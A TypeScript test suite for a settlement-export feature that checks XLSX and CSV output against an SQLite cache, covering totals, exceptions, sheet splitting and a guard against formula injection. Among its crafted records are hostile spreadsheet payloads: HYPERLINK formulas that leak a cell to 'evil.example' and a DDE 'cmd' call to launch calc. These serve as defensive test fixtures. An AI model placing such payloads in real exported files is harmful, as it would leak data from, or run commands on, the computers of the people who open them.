/**
 * Settlement and list exports written by `runExport` from a real SQLite cache (three sandbox days synced over
 * loopback HTTP, plus crafted records: leading-zero and long digit ids, negative and tiny amounts, formula-like
 * text, a record gone from the API), read back with exceljs, fast-csv and openpyxl and compared with direct SQL
 * on the cache file: every cell's type, format and exact value, the Summary's totals and rule counts, the
 * Exceptions lines, the continuation sheets, the formula-injection guard, cancel and failure leaving no file.
 */
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCache, type Cache } from '../../electron/cache/database';
import { runExport, type ExportJob } from '../../electron/export/run-export';
import type { ExportContext } from '../../electron/export/provenance';
import { syncSettlements } from '../../electron/sync/settlement-sync';
import type { Payout } from '../../shared/api/payouts';
import type { SettlementRecord } from '../../shared/api/settlements';
import type { ExportFormat } from '../../shared/exports';
import { formatDateRange, formatDdMmYyyy } from '../../shared/format';
import { formatMinor } from '../../shared/money';
import { RULES, RULE_IDS, type ReconciliationException } from '../../shared/reconciliation';
import type { SettlementFilter } from '../../shared/settlement-query';
import { addDays, epochMsToIst } from '../../shared/time';
import {
  cellStyles,
  cellXfs,
  openpyxlProblem,
  openpyxlSums,
  readCsv,
  sheetXml,
  zipParts,
} from '../support/export-files';
import { openSandbox, type OpenSandbox } from '../support/sandbox';
import { syncRunInto } from '../support/settlement-run';
import { requireSystem } from '../support/system';
import { craftedRecord } from '../support/crafted-records';

const PER_DAY = 1500;
let sb: OpenSandbox;
let dir: string;
let cache: Cache;
/** A second connection to the cache file, read-only: the SQL the exports are checked against. */
let sql: Database.Database;
let range: { from: string; to: string };
let clock: Date | null = null;

// ---- the cells as the test compares them --------------------------------------------------------------------

/**
 * A cell as `kind:exact text` (null when empty): what exceljs read, with the number format that makes it money,
 * a count, a date or a time; or what the cache holds, in the same form. One string per cell keeps a failing
 * comparison readable.
 */
type Cell = string | null;
const text = (v: string | null): Cell => (v === null || v === '' ? null : `text:${v}`);
const money = (paise: number): Cell => `money:${formatMinor(paise)}`;
const integer = (n: number): Cell => `integer:${n}`;
const date = (d: string): Cell => `date:${d}`;
const datetime = (t: string | null): Cell => (t === null ? null : `datetime:${t}`);

function cellOf(cell: ExcelJS.Cell): Cell {
  const v = cell.value;
  if (v === null || v === undefined) return null;
  if (typeof v === 'string') return `text:${v}`;
  if (typeof v === 'number') {
    // Money compared as its decimal text: 2506.6 read back must print as the cache's 250660 paise do.
    if (cell.numFmt === '#,##0.00') return `money:${v.toFixed(2)}`;
    if (cell.numFmt === '#,##0') return `integer:${v}`;
    return `number(${cell.numFmt}):${v}`;
  }
  if (v instanceof Date) {
    // exceljs reads a serial as UTC, and the writer wrote the IST wall clock: the ISO text is that wall clock.
    const iso = v.toISOString();
    if (cell.numFmt === 'yyyy-mm-dd' && iso.endsWith('T00:00:00.000Z')) return `date:${iso.slice(0, 10)}`;
    if (cell.numFmt === 'yyyy-mm-dd hh:mm:ss') return `datetime:${iso.slice(0, 19).replace('T', ' ')}`;
    return `date(${cell.numFmt}):${iso}`;
  }
  return `other:${JSON.stringify(v)}`;
}

/** The text a CSV holds for a cell: the same exact text, a formula-like text behind an apostrophe. */
function csvField(cell: Cell): string {
  if (cell === null) return '';
  const [kind, value] = [cell.slice(0, cell.indexOf(':')), cell.slice(cell.indexOf(':') + 1)];
  return kind === 'text' && FORMULA_START.test(value) ? `'${value}` : value;
}

/** Paise of a money cell's exact decimal text. */
function paiseOf(cell: Cell): number {
  const m = /^money:(-?)(\d+)\.(\d\d)$/.exec(cell ?? '');
  if (!m) throw new Error(`not a money cell: ${cell}`);
  return (m[1] ? -1 : 1) * (Number(m[2]) * 100 + Number(m[3]));
}

/** OWASP's characters that start a formula: =, +, -, @, tab, carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

// ---- what the cache holds ----------------------------------------------------------------------------------

interface SettlementRow {
  id: number;
  date: string;
  pg: string;
  pg_transaction_id: string;
  settlement_date: string;
  order_id: string | null;
  order_date: string;
  utr: string | null;
  order_status: string;
  pg_status: string;
  payment_mode: string;
  amount: number;
  mer_service_fee: number;
  mer_service_tax: number;
  merchant_subvention_amount: number;
  cgst: number;
  igst: number;
  sgst: number;
  settled_amount: number;
  dispute_id: string | null;
  description: string | null;
  extra: string | null;
  exceptions: string | null;
  vanished_at: string | null;
}

const exceptionsOf = (r: SettlementRow): ReconciliationException[] =>
  r.exceptions === null ? [] : (JSON.parse(r.exceptions) as ReconciliationException[]);

/** The Settlements sheet, column by column: its header and what each record's cell must hold. */
const DETAIL: [string, (r: SettlementRow) => Cell][] = [
  ['Date', (r) => date(r.date)],
  ['Order id', (r) => text(r.order_id)],
  ['PG transaction id', (r) => text(r.pg_transaction_id)],
  ['UTR', (r) => text(r.utr)],
  ['Amount (INR)', (r) => money(r.amount)],
  ['Service fee (INR)', (r) => money(r.mer_service_fee)],
  ['Service tax (INR)', (r) => money(r.mer_service_tax)],
  ['Subvention (INR)', (r) => money(r.merchant_subvention_amount)],
  ['Settled amount (INR)', (r) => money(r.settled_amount)],
  ['Gateway', (r) => text(r.pg)],
  ['Settled at (IST)', (r) => datetime(r.settlement_date)],
  ['Ordered at (IST)', (r) => datetime(r.order_date)],
  ['Order status', (r) => text(r.order_status)],
  ['PG status', (r) => text(r.pg_status)],
  ['Payment mode', (r) => text(r.payment_mode)],
  ['CGST (INR)', (r) => money(r.cgst)],
  ['SGST (INR)', (r) => money(r.sgst)],
  ['IGST (INR)', (r) => money(r.igst)],
  ['Dispute id', (r) => text(r.dispute_id)],
  ['Description', (r) => text(r.description)],
  [
    'Exceptions',
    (r) =>
      text(
        exceptionsOf(r)
          .map((e) => e.rule)
          .join('; '),
      ),
  ],
  ['Gone from the API at (IST)', (r) => datetime(r.vanished_at && epochMsToIst(Date.parse(r.vanished_at)))],
  ['Other fields (JSON)', (r) => text(r.extra)],
];
const DETAIL_HEADER = DETAIL.map(([h]) => h);
/** A detail column's number (1-based, as exceljs counts them). */
const detailColumn = (header: string) => DETAIL_HEADER.indexOf(header) + 1;

/** The Summary's money columns and the cache column each adds up. */
const SUMMARY_MONEY: [string, keyof SettlementRow][] = [
  ['Amount (INR)', 'amount'],
  ['Fees (INR)', 'mer_service_fee'],
  ['Taxes (INR)', 'mer_service_tax'],
  ['CGST (INR)', 'cgst'],
  ['SGST (INR)', 'sgst'],
  ['IGST (INR)', 'igst'],
  ['Subvention (INR)', 'merchant_subvention_amount'],
  ['Settled (INR)', 'settled_amount'],
];
const SUMMARY_HEADER = ['Date', 'Gateway', 'Payment mode', 'Records', ...SUMMARY_MONEY.map(([h]) => h)];

const EXCEPTION_HEADER = [
  'Date',
  'Gateway',
  'Order id',
  'PG transaction id',
  'UTR',
  'Rule',
  'Amount at risk (INR)',
  'Workflow state',
  'Assigned to',
  'What the rule checks',
  'Expected (INR)',
  'Actual (INR)',
  'Difference (INR)',
  'Values that broke it',
  'Note',
  'Tag',
  'Likely cause (triage)',
  'Cause probability (%)',
  'Severity (1–5, rounded)',
  'Needs escalation (%)',
  'Triage model',
];

/**
 * The four amounts of an exception line, from the record's stored values where the rule compares amounts and
 * from the record otherwise: [expected, actual, at risk]; the difference is actual − expected.
 */
function exceptionAmounts(r: SettlementRow, e: ReconciliationException): [number, number, number] {
  const v = e.values as Record<string, number>;
  switch (e.rule) {
    case 'settled_amount_mismatch':
      return [v['expected']!, v['settled_amount']!, Math.abs(v['difference']!)];
    case 'tax_breakdown_mismatch':
      return [v['cgst']! + v['sgst']! + v['igst']!, v['mer_service_tax']!, Math.abs(v['difference']!)];
    case 'failed_but_settled':
      return [0, r.settled_amount, r.settled_amount];
    case 'dispute_open':
      return [r.settled_amount, r.settled_amount, r.amount];
    default:
      return [r.settled_amount, r.settled_amount, r.settled_amount];
  }
}

/** The values that broke a rule, as an accountant reads them: amounts in rupees, counts and text as they are. */
const describeValues = (values: ReconciliationException['values']) =>
  Object.entries(values)
    .map(([k, v]) => `${k} = ${typeof v === 'number' && k !== 'times_settled' ? formatMinor(v) : String(v)}`)
    .join('; ');

function exceptionLines(rows: readonly SettlementRow[]): Cell[][] {
  return rows.flatMap((r) =>
    exceptionsOf(r).map((e) => {
      const [expected, actual, atRisk] = exceptionAmounts(r, e);
      return [
        date(r.date),
        text(r.pg),
        text(r.order_id),
        text(r.pg_transaction_id),
        text(r.utr),
        text(e.rule),
        money(atRisk),
        // Nothing was done on these exceptions: open, no one assigned, and no triage.
        text('open'),
        null,
        text(RULES[e.rule]),
        money(expected),
        money(actual),
        money(actual - expected),
        text(describeValues(e.values)),
        ...Array<Cell>(7).fill(null),
      ];
    }),
  );
}

/** An export's filter and the same selection in plain SQL over the cache file. */
interface FilterCase {
  name: string;
  filter: Partial<SettlementFilter>;
  where: string;
}

const CURRENT = 'vanished_at IS NULL';
/** What starts with `start` (lower case, as SQL text), written without LIKE so its wildcards are no concern. */
const startsWith = (start: string) =>
  `(${['order_id', 'pg_transaction_id', 'utr'].map((c) => `substr(lower(${c}), 1, ${start.length}) = '${start}'`).join(' OR ')})`;
const HAS_EXCEPTIONS = 'exceptions IS NOT NULL';

const UNFILTERED: FilterCase = { name: 'no filter', filter: {}, where: CURRENT };
const FILTER_CASES: FilterCase[] = [
  UNFILTERED,
  { name: 'one gateway', filter: { pg: 'razorpay' }, where: `${CURRENT} AND pg = 'razorpay'` },
  { name: 'exceptions only', filter: { exceptionsOnly: true }, where: `${CURRENT} AND ${HAS_EXCEPTIONS}` },
  // "_" is a LIKE wildcard: only an escaped search finds what starts with the literal "pay_0" (any case) and nothing else.
  { name: 'search', filter: { search: 'PAY_0' }, where: `${CURRENT} AND ${startsWith('pay_0')}` },
  {
    name: 'gateway with exceptions, records gone from the API included',
    filter: { pg: 'crafted', exceptionsOnly: true, state: 'all' },
    where: `pg = 'crafted' AND ${HAS_EXCEPTIONS}`,
  },
];

const rowsWhere = (where: string): SettlementRow[] =>
  sql
    .prepare(
      `SELECT * FROM settlements WHERE date BETWEEN @from AND @to AND ${where} ORDER BY date, pg, settlement_date, id`,
    )
    .all(range) as SettlementRow[];

/** The Summary's lines per date x gateway x payment mode, and the grand total, summed by SQLite. */
function summaryLines(where: string): { groups: Cell[][]; total: Cell[]; count: number } {
  const sums = SUMMARY_MONEY.map(([, column]) => `sum(${column})`).join(', ');
  const line = (r: unknown[]) => [integer(r[0] as number), ...r.slice(1).map((v) => money(v as number))];
  const groups = sql
    .prepare(
      `SELECT date, pg, payment_mode, count(*), ${sums} FROM settlements WHERE date BETWEEN @from AND @to AND ${where}
       GROUP BY date, pg, payment_mode ORDER BY date, pg, payment_mode`,
    )
    .raw()
    .all(range) as unknown[][];
  const total = sql
    .prepare(`SELECT count(*), ${sums} FROM settlements WHERE date BETWEEN @from AND @to AND ${where}`)
    .raw()
    .get(range) as unknown[];
  return {
    groups: groups.map(([d, pg, mode, ...figures]) => [
      date(d as string),
      text(pg as string),
      text(mode as string),
      ...line(figures),
    ]),
    total: [text('Grand total'), null, null, ...line(total.map((v) => v ?? 0))],
    count: total[0] as number,
  };
}

/**
 * The records per date a selection holds, and the detail sheets they take at `capacity` rows a sheet: whole days
 * while they fit; a day larger than a sheet fills sheets of its own, its rest starting the next.
 */
function perDateOf(where: string): [string, number][] {
  return sql
    .prepare(
      `SELECT date, count(*) FROM settlements WHERE date BETWEEN @from AND @to AND ${where} GROUP BY date ORDER BY date`,
    )
    .raw()
    .all(range) as [string, number][];
}

function sheetSizes(where: string, capacity: number): number[] {
  const sizes: number[] = [];
  let current = 0;
  for (let [, n] of perDateOf(where)) {
    if (current + n <= capacity) {
      current += n;
      continue;
    }
    if (current > 0) sizes.push(current);
    for (; n > capacity; n -= capacity) sizes.push(capacity);
    current = n;
  }
  sizes.push(current);
  return sizes;
}

/** Records breaking each rule, counted from the exceptions stored as JSON (not the rule bits the export reads). */
function ruleCounts(where: string): Record<string, number> {
  const count = sql.prepare(
    `SELECT count(*) FROM settlements WHERE date BETWEEN @from AND @to AND ${where}
       AND EXISTS (SELECT 1 FROM json_each(settlements.exceptions) WHERE json_extract(value, '$.rule') = @rule)`,
  );
  return Object.fromEntries(RULE_IDS.map((rule) => [rule, count.pluck().get({ ...range, rule }) as number]));
}

// ---- crafted records ---------------------------------------------------------------------------------------

const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const LEADING_ZEROS = '000123456789012345678';
const LONG_DIGITS = '12345678901234567890';
const VANISHING = 'txn_crafted_gone';

function craftedRecords(day: string): SettlementRecord[] {
  return [
    craftedRecord(1, day, {
      pg_transaction_id: LEADING_ZEROS,
      order_id: '0042',
      utr: '000000000001234567890',
      dispute_id: '00991',
      description: 'safe = text, <&>"\' ]]> नमस्ते ₹',
    }),
    craftedRecord(2, day, { pg_transaction_id: '9007199254740993', order_id: LONG_DIGITS, utr: '1.5E+3' }),
    craftedRecord(3, day, {
      amount: 5,
      mer_service_fee: 0,
      mer_service_tax: 0,
      cgst: 0,
      sgst: 0,
      igst: 0,
      merchant_subvention_amount: 0,
      settled_amount: 5,
      bank_reference: '000777',
    }),
    craftedRecord(4, day, {
      order_status: 'refund',
      amount: -250_050,
      mer_service_fee: 0,
      mer_service_tax: 0,
      cgst: 0,
      sgst: 0,
      igst: 0,
      merchant_subvention_amount: 0,
      settled_amount: -250_050,
    }),
    // Breaks the tax breakdown (a difference of 50 paise) and, with it, the settled formula.
    craftedRecord(5, day, { cgst: 100, sgst: 200, igst: 250, settled_amount: 990_000 }),
    ...FORMULA_PREFIXES.map((p, i) =>
      craftedRecord(10 + i, day, {
        pg_transaction_id: `${p}${10 + i}`,
        order_id: `${p}HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
        utr: `${p}1+1`,
        description: `${p}cmd|' /C calc'!A0`,
        dispute_id: `${p}SUM(1,2)`,
        payment_mode: i === 0 ? '@UPI' : 'UPI',
      }),
    ),
    craftedRecord(30, day, { pg_transaction_id: VANISHING, dispute_id: 'dsp_gone' }),
  ];
}

/** What a sync does for one date, with records of our choosing: a run, the records as one page, the date closed. */
function ingestDay(day: string, records: SettlementRecord[]): void {
  syncRunInto(cache, { [day]: records }, Math.max(records.length, 1));
}

// ---- exports and reading them back -------------------------------------------------------------------------

const CONTEXT: ExportContext = {
  profileName: 'Treasury desk',
  environment: 'sandbox',
  baseUrl: 'http://127.0.0.1:4010',
  generatedAtIst: '2026-01-15 12:00:00',
  appVersion: '9.8.7',
};

let outputs = 0;
/** A new empty folder for one export, so "nothing else was left" is a directory listing. */
const freshDir = () => mkdtempSync(join(dir, `out-${++outputs}-`));

function settlementJob(
  file: string,
  filter: Partial<SettlementFilter> = {},
  format: ExportFormat = 'xlsx',
  maxRowsPerSheet?: number,
): ExportJob {
  return {
    request: { kind: 'settlements', format, filter: { ...range, ...filter } },
    cacheFile: cache.file,
    file,
    context: CONTEXT,
    maxRowsPerSheet,
  };
}

async function readBook(file: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  return book;
}

/** Every row of a sheet (header included) as cells, `width` columns wide. */
function rowsOf(sheet: ExcelJS.Worksheet, width: number): Cell[][] {
  return Array.from({ length: sheet.rowCount }, (_, r) =>
    Array.from({ length: width }, (_, c) => cellOf(sheet.getRow(r + 1).getCell(c + 1))),
  );
}

/** The sheets of a run continued past the row limit: `name`, `name (2)`, … in order. */
function continued(book: ExcelJS.Workbook, name: string): ExcelJS.Worksheet[] {
  const sheets = book.worksheets.filter((s) => s.name === name || s.name.startsWith(`${name} (`));
  expect(sheets.map((s) => s.name)).toEqual(sheets.map((_, i) => (i === 0 ? name : `${name} (${i + 1})`)));
  return sheets;
}

/** The data rows of continued sheets, each sheet checked for its header, frozen first row and autofilter. */
function dataRows(sheets: ExcelJS.Worksheet[], header: string[]): Cell[][] {
  return sheets.flatMap((sheet) => {
    const rows = rowsOf(sheet, header.length);
    expect(rows[0], `${sheet.name} header`).toEqual(header.map((h) => text(h)));
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
    const lastColumn = String.fromCharCode(64 + header.length);
    expect(sheet.autoFilter, `${sheet.name} autofilter`).toBe(`A1:${lastColumn}${rows.length}`);
    return rows.slice(1);
  });
}

/**
 * The Summary sheet: its lines up to the grand total, the total, the subtotal line of each detail sheet, and the
 * labelled values below.
 */
function readSummary(book: ExcelJS.Workbook) {
  const sheet = book.getWorksheet('Summary')!;
  const rows = rowsOf(sheet, SUMMARY_HEADER.length);
  expect(rows[0]).toEqual(SUMMARY_HEADER.map((h) => text(h)));
  expect(sheet.autoFilter).toBeFalsy();
  const end = rows.findIndex((r) => r[0] === text('Grand total'));
  expect(end).toBeGreaterThan(0);
  const subtotalsAt = rows.findIndex((r) => r[0] === text('Subtotal per detail sheet'));
  expect(subtotalsAt).toBe(end + 2);
  const subtotalsEnd = rows.findIndex((r, i) => i > subtotalsAt && r.every((c) => c === null));
  const labels = new Map(
    rows
      .slice(subtotalsEnd)
      .flatMap((r) => (r[0]?.startsWith('text:') ? [[r[0].slice(5), r[1] ?? null] as const] : [])),
  );
  const rule = (id: string) => [...labels].find(([label]) => label.startsWith(`${id}: `))?.[1];
  return {
    groups: rows.slice(1, end),
    total: rows[end],
    subtotals: rows.slice(subtotalsAt + 1, subtotalsEnd),
    labels,
    rule,
  };
}

/** The Audit sheet: each item's label and value cell. */
function readAudit(book: ExcelJS.Workbook): Map<string, Cell> {
  const sheet = book.getWorksheet('Audit')!;
  const rows = rowsOf(sheet, 2);
  expect(rows[0]).toEqual([text('Item'), text('Value')]);
  return new Map(rows.slice(1).map(([label, value]) => [label!.slice(5), value ?? null]));
}

/** A Summary line of figures (count, then money) for records, summed here rather than by SQLite. */
function figuresOf(records: readonly SettlementRow[]): Cell[] {
  return [
    integer(records.length),
    ...SUMMARY_MONEY.map(([, column]) => money(records.reduce((n, r) => n + (r[column] as number), 0))),
  ];
}

/** Every check of a settlement workbook against the cache, for the export's filter. */
async function checkWorkbook(file: string, c: FilterCase, detailSheets = 1): Promise<ExcelJS.Workbook> {
  const book = await readBook(file);
  const records = rowsWhere(c.where);
  const detail = continued(book, 'Settlements');
  const exceptions = continued(book, 'Exceptions');
  expect(book.worksheets.map((s) => s.name)).toEqual([
    'Summary',
    ...detail.map((s) => s.name),
    ...exceptions.map((s) => s.name),
    'Changes',
    'Manifest',
    'Bank credits',
    'Audit',
  ]);
  expect(detail).toHaveLength(detailSheets);

  expect(dataRows(detail, DETAIL_HEADER)).toEqual(records.map((r) => DETAIL.map(([, cell]) => cell(r))));
  expect(dataRows(exceptions, EXCEPTION_HEADER)).toEqual(exceptionLines(records));

  const summary = readSummary(book);
  const expected = summaryLines(c.where);
  expect(summary.groups).toEqual(expected.groups);
  expect(summary.total).toEqual(expected.total);
  expect(expected.count).toBe(records.length);
  for (const [rule, count] of Object.entries(ruleCounts(c.where)))
    expect(summary.rule(rule), rule).toBe(integer(count));
  expect(summary.labels.get('Text cells cut to fit (whole in the CSV export)')).toBe(integer(0));
  // A subtotal line per detail sheet, over exactly the records that sheet holds.
  let at = 0;
  expect(summary.subtotals).toEqual(
    detail.map((sheet) => {
      const held = records.slice(at, (at += sheet.rowCount - 1));
      const [first, last] = [held[0]?.date, held.at(-1)?.date];
      const dates = first === undefined ? 'no records' : first === last ? first : `${first} to ${last}`;
      return [text(sheet.name), text(dates), null, ...figuresOf(held)];
    }),
  );

  const audit = readAudit(book);
  expect(audit.get('Rows')).toBe(integer(records.length));
  expect(audit.get('Detail sheets')).toBe(text(detail.map((s) => s.name).join(', ')));
  expect(audit.get('Total settled amount (INR)')).toBe(expected.total[11]);
  expect(audit.get('Total amount (INR)')).toBe(expected.total[4]);
  return book;
}

beforeAll(async () => {
  sb = await openSandbox({ settlementsPerDay: PER_DAY });
  const days = sb.sandbox.fixtures().settlementDates.slice(-4, -1);
  const craftedDay = addDays(days[0]!, -1);
  range = { from: craftedDay, to: days.at(-1)! };
  dir = mkdtempSync(join(tmpdir(), 'export-settlements-'));
  cache = openCache(join(dir, 'cache.sqlite'), { now: () => clock ?? new Date(sb.now()) });

  const summary = await syncSettlements({ api: sb.api(), cache, from: days[0]!, to: days.at(-1)! });
  expect(summary).toMatchObject({ status: 'completed', records: days.length * PER_DAY });
  // The crafted date synced twice; the second time the API no longer lists one record, which is kept as gone.
  const records = craftedRecords(craftedDay);
  ingestDay(craftedDay, records);
  clock = new Date('2026-01-10T04:00:00.000Z');
  ingestDay(
    craftedDay,
    records.filter((r) => r.pg_transaction_id !== VANISHING),
  );
  clock = null;
  sql = new Database(cache.file, { readonly: true });
});

afterAll(async () => {
  sql?.close();
  cache?.close();
  await sb?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('settlement workbook', () => {
  it('holds every record with typed, exact cells, and a Summary that adds up to the paisa', async () => {
    const file = join(freshDir(), 'settlements.xlsx');
    const result = await runExport(settlementJob(file));
    const count = rowsWhere(CURRENT).length;
    expect(count).toBe(3 * PER_DAY + craftedRecords(range.from).length - 1);
    expect(result).toMatchObject({ status: 'completed', file, rows: count, sheets: 1, kind: 'settlements' });
    const book = await checkWorkbook(file, UNFILTERED);

    const { total } = readSummary(book);
    const audit = readAudit(book);
    expect(Object.fromEntries(audit)).toMatchObject({
      Export: text('Settlements'),
      Profile: text('Treasury desk'),
      Environment: text('sandbox'),
      'Base URL': text('http://127.0.0.1:4010'),
      'Date range': text(`${formatDateRange(range.from, range.to)} (settlement dates, IST)`),
      Filters: text('none (every cached record of the range)'),
      'Generated at (IST)': text('2026-01-15 12:00:00'),
      'Cells cut to fit': integer(0),
      App: text('Payout Console 9.8.7'),
    });
    // No journal was given, so no journal line is printed.
    expect(audit.has('Journal head hash')).toBe(false);
    // The data has what the checks above are meant to catch: exceptions of every kind it can hold, and
    // distinct CGST, SGST and IGST totals, so a swapped column cannot pass.
    expect(Object.values(ruleCounts(CURRENT)).filter((n) => n > 0).length).toBeGreaterThanOrEqual(5);
    const [, , cgst, sgst, igst] = total!.slice(5);
    expect(new Set([cgst, sgst, igst]).size).toBe(3);
  });

  it('keeps identifiers as text: leading zeros and long digit strings survive', async () => {
    const file = join(freshDir(), 'ids.xlsx');
    await runExport(settlementJob(file, { pg: 'crafted' }));
    const sheet = (await readBook(file)).getWorksheet('Settlements')!;
    const row = (txn: string) => {
      for (let r = 2; r <= sheet.rowCount; r++) {
        if (sheet.getRow(r).getCell(detailColumn('PG transaction id')).value === txn) return sheet.getRow(r);
      }
      throw new Error(`no row for ${txn}`);
    };
    const zeros = row(LEADING_ZEROS);
    const ids = ['PG transaction id', 'Order id', 'UTR', 'Dispute id'].map(detailColumn);
    expect(ids.map((c) => zeros.getCell(c).value)).toEqual([LEADING_ZEROS, '0042', '000000000001234567890', '00991']);
    const long = row('9007199254740993');
    expect(['Order id', 'UTR'].map((h) => long.getCell(detailColumn(h)).value)).toEqual([LONG_DIGITS, '1.5E+3']);
    expect(row('txn_crafted_3').getCell(detailColumn('Amount (INR)')).value).toBe(0.05);
    expect(row('txn_crafted_4').getCell(detailColumn('Amount (INR)')).value).toBe(-2500.5);
    expect(row('txn_crafted_3').getCell(detailColumn('Other fields (JSON)')).value).toBe('{"bank_reference":"000777"}');
  });

  it.each(FILTER_CASES.slice(1))('narrows detail, Summary and Exceptions alike: $name', async (c) => {
    const all = rowsWhere(CURRENT).length;
    const selected = rowsWhere(c.where).length;
    expect(selected).toBeGreaterThan(0);
    expect(selected).not.toBe(all);
    const file = join(freshDir(), 'filtered.xlsx');
    expect(await runExport(settlementJob(file, c.filter))).toMatchObject({ status: 'completed', rows: selected });
    const book = await checkWorkbook(file, c);
    expect(readAudit(book).get('Filters')).not.toBe(text('none (every cached record of the range)'));
  });

  it.each([1000, 2000])(
    'continues past a %i-row limit on "Settlements (2)", … keeping each day on one sheet unless it alone is larger',
    async (limit) => {
      const file = join(freshDir(), 'split.xlsx');
      const capacity = limit - 1;
      const perDate = perDateOf(CURRENT);
      const sizes = sheetSizes(CURRENT, capacity);
      const count = rowsWhere(CURRENT).length;
      expect(sizes.length).toBeGreaterThanOrEqual(3);
      expect(await runExport(settlementJob(file, {}, 'xlsx', limit))).toMatchObject({
        rows: count,
        sheets: sizes.length,
      });
      const book = await checkWorkbook(file, UNFILTERED, sizes.length);
      const detail = continued(book, 'Settlements');
      expect(detail.map((s) => s.rowCount - 1)).toEqual(sizes);
      // Where two sheets meet, they share a date only when that date alone is larger than a sheet.
      const big = new Set(perDate.filter(([, n]) => n > capacity).map(([d]) => `date:${d}`));
      for (let i = 1; i < detail.length; i++) {
        const last = detail[i - 1]!.getRow(detail[i - 1]!.rowCount).getCell(1);
        const first = detail[i]!.getRow(2).getCell(1);
        if (cellOf(last) === cellOf(first)) expect(big).toContain(cellOf(first));
      }
      // The records' keys (date, gateway, transaction, settlement time: the sandbox settles some transactions
      // twice a day) across the sheets against SQL: the same set, each once.
      const key = ['Date', 'Gateway', 'PG transaction id', 'Settled at (IST)'].map((h) => detailColumn(h) - 1);
      const keys = detail.flatMap((s) =>
        rowsOf(s, DETAIL_HEADER.length)
          .slice(1)
          .map((r) => key.map((c) => r[c]).join('|')),
      );
      expect(new Set(keys).size).toBe(keys.length);
      const expected = sql
        .prepare(
          `SELECT 'date:' || date || '|text:' || pg || '|text:' || pg_transaction_id || '|datetime:' || settlement_date
           FROM settlements WHERE date BETWEEN @from AND @to AND ${CURRENT}`,
        )
        .pluck()
        .all(range) as string[];
      expect(new Set(keys)).toEqual(new Set(expected));
    },
  );

  it('continues the Exceptions sheet past the row limit too', async () => {
    // The row limit is sized from the data: small enough that the exception lines need two or more sheets, large
    // enough for the Summary, which is never continued (and has a subtotal line per detail sheet the limit makes).
    // One day's exceptions do it on most days; where that day has too few lines for its Summary, the whole range's do.
    const candidates: FilterCase[] = [
      {
        name: 'one day, exceptions only',
        filter: { from: range.to, exceptionsOnly: true },
        where: `${CURRENT} AND ${HAS_EXCEPTIONS} AND date = '${range.to}'`,
      },
      {
        name: 'the range, exceptions only',
        filter: { exceptionsOnly: true },
        where: `${CURRENT} AND ${HAS_EXCEPTIONS}`,
      },
    ];
    const sized: { c: FilterCase; lines: number; maxRows: number }[] = [];
    for (const c of candidates) {
      const lines = exceptionLines(rowsWhere(c.where)).length;
      const probe = join(freshDir(), 'probe.xlsx');
      await runExport(settlementJob(probe, c.filter));
      const summaryRows = (await readBook(probe)).getWorksheet('Summary')!.rowCount;
      let maxRows = Math.max(summaryRows, Math.floor(lines / 2) + 1);
      while (summaryRows + sheetSizes(c.where, maxRows - 1).length - 1 > maxRows) maxRows++;
      if (lines > maxRows - 1) sized.push({ c, lines, maxRows });
    }
    expect(sized.length, 'some filter has more exception lines than its Summary has rows').toBeGreaterThan(0);
    const { c, lines, maxRows } = sized[0]!;

    const file = join(freshDir(), 'exceptions.xlsx');
    const result = await runExport(settlementJob(file, c.filter, 'xlsx', maxRows));
    expect(result.status).toBe('completed');
    const book = await checkWorkbook(file, c, sheetSizes(c.where, maxRows - 1).length);
    const sheets = continued(book, 'Exceptions');
    expect(sheets.length).toBeGreaterThanOrEqual(2);
    expect(sheets).toHaveLength(Math.ceil(lines / (maxRows - 1)));
  });
});

describe('formula injection', () => {
  it('writes formula-like text as quote-prefixed text, never as a formula, in every sheet', async () => {
    const file = join(freshDir(), 'hostile.xlsx');
    await runExport(settlementJob(file, { pg: 'crafted' }));
    const book = await readBook(file);
    const parts = await zipParts(file);
    const xfs = cellXfs(parts);
    const quoted = (sheet: string) => {
      const styles = cellStyles(sheetXml(parts, sheet));
      return (ref: string) => /quotePrefix="1"/.test(xfs[styles.get(ref) ?? 0] ?? '');
    };

    const hostile: string[] = [];
    for (const sheet of book.worksheets) {
      expect(sheetXml(parts, sheet.name)).not.toMatch(/<f[\s>]/);
      const isQuoted = quoted(sheet.name);
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value !== 'string') return;
          if (FORMULA_START.test(cell.value)) hostile.push(`${sheet.name}!${cell.address}`);
          expect(isQuoted(cell.address), `${sheet.name}!${cell.address} ${JSON.stringify(cell.value)}`).toBe(
            FORMULA_START.test(cell.value),
          );
        }),
      );
    }
    // Each prefix in five detail fields and three Exceptions fields, and "@UPI" in the Summary.
    expect(hostile.filter((h) => h.startsWith('Settlements!'))).toHaveLength(FORMULA_PREFIXES.length * 5 + 1);
    expect(hostile.filter((h) => h.startsWith('Exceptions!'))).toHaveLength(FORMULA_PREFIXES.length * 3);
    expect(hostile.filter((h) => h.startsWith('Summary!'))).toHaveLength(1);

    // exceljs read each text back exactly, the leading tab and carriage return included.
    const orderIds = rowsOf(book.getWorksheet('Settlements')!, DETAIL_HEADER.length).map(
      (r) => r[detailColumn('Order id') - 1],
    );
    for (const p of FORMULA_PREFIXES) {
      expect(orderIds).toContain(text(`${p}HYPERLINK("http://evil.example/?leak="&A1,"Click")`));
    }
  });

  it('puts an apostrophe before formula-like text in CSV', async () => {
    const file = join(freshDir(), 'hostile.csv');
    await runExport(settlementJob(file, { pg: 'crafted' }, 'csv'));
    const { records } = await readCsv(file);
    const fields = records.slice(1).flat();
    for (const p of FORMULA_PREFIXES) {
      expect(fields).toContain(`'${p}HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
      expect(fields).toContain(`'${p}1+1`);
    }
    // Numbers are never prefixed: a negative amount stays a number.
    expect(fields).toContain('-2500.50');
  });
});

